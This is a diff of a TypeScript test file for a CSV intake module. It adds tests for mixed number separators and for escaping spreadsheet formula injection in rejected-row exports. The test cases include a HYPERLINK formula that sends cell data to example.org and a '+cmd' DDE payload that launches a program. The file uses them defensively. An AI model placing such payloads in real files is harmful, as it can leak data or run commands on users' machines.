@@ -40,6 +40,28 @@ const REGISTER: Mapping = {
   ignore: ['Enhet'],
 };
 
+describe('a column with two decimal signs', () => {
+  const rowsOf = (...values: string[]) => [
+    'person;observation;date;value',
+    ...values.map((value, index) => `p-${index};absence;2026-01-31;${value}`),
+  ];
+  const MIXED = 'intake.separators-mixed';
+
+  it.each([
+    [['1.234,5', '1.234'], ['intake.number-has-separators', MIXED], 'a thousand, after its like'],
+    [['1.234', '1.234,5'], [MIXED, 'intake.number-has-separators'], 'a thousand, before its like'],
+    [['1.234', '1,5'], [MIXED, MIXED], 'a thousand, before a comma'],
+    [['1,5', '1.234'], [MIXED], 'a thousand, after a comma'],
+    [['1.234.567', '1.234'], ['intake.number-has-separators', MIXED], 'millions'],
+    [['1.234 kr', '2,5'], [MIXED, MIXED], 'a thousand with its currency'],
+    [['1.5', '1,25'], [MIXED], 'two ways, of which the later is in doubt'],
+    [['1.234', '5.5'], [], 'points alone'],
+  ])('never reads %j silently a thousand times too small: %j (%s)', async (values, expected) => {
+    const taken = await take(text(rowsOf(...values)), undefined, true);
+    expect(codes(taken)).toEqual(expected);
+  });
+});
+
 describe('a register’s file under its mapping', () => {
   it('becomes the rows that the terms read', async () => {
     const taken = await take(
@@ -307,6 +329,43 @@ describe('what is kept of a delivery', () => {
       ),
       { numRuns: 60 },
     );
+  });
+
+  it.each([
+    ['=HYPERLINK("https://example.org/?"&A2;"klicka")', 'a link that sends a cell away'],
+    ['@SUM(A1)', 'a function of old'],
+    ["+cmd|' /C calc'!A0", 'a program'],
+    ['-1+1', 'a sum'],
+  ])('is rejected so that a spreadsheet runs nothing: %s, %s', async (cell) => {
+    const written = `"${cell.replaceAll('"', '""')}"`;
+    const lines = ['Kod;Mått;Dag;Värde', `${written};absence;1/2/2020;-12,5`];
+    const taken = await take(text(lines), SWEDISH);
+    const rejected = taken.ok
+      ? rejectedText(taken.value.table, taken.value.rejected, {
+          column: REASON_COLUMNS.sv,
+          why: () => '=1',
+        })
+      : '';
+    expect(rejected).toContain(`'${cell}`.replaceAll('"', '""'));
+    expect(rejected).not.toMatch(/(?:^|[;"])(?:[=@+]|-(?!12,5))/m);
+    const again = await take(Buffer.from(rejected), SWEDISH);
+    expect(again.ok && again.value.rejected[0]?.findings).toEqual(
+      taken.ok && taken.value.rejected[0]?.findings,
+    );
+  });
+
+  it('comes in with the dash that it was written with, though the rejected rows guard it', async () => {
+    const lines = ['person;enrolled_on;attribute_a', 'p-1;30/2/2020;=a', 'p-2;2020-01-01;=b'];
+    const enrol = (bytes: Uint8Array) => takeIn({ bytes, file: 'e.csv' }, ENROLMENTS);
+    const taken = await enrol(text(lines));
+    const rejected = taken.ok
+      ? rejectedText(taken.value.table, taken.value.rejected, {
+          column: 'utfall_why',
+          why: () => '',
+        })
+      : '';
+    const again = await enrol(Buffer.from(rejected.replace('30/2/2020', '2020-02-28')));
+    expect(again.ok && again.value.values[0]?.attributes).toEqual({ a: '=a' });
   });
 
   it('is every row or a rejected one; and what was rejected, mended, comes in under the same mapping', async () => {
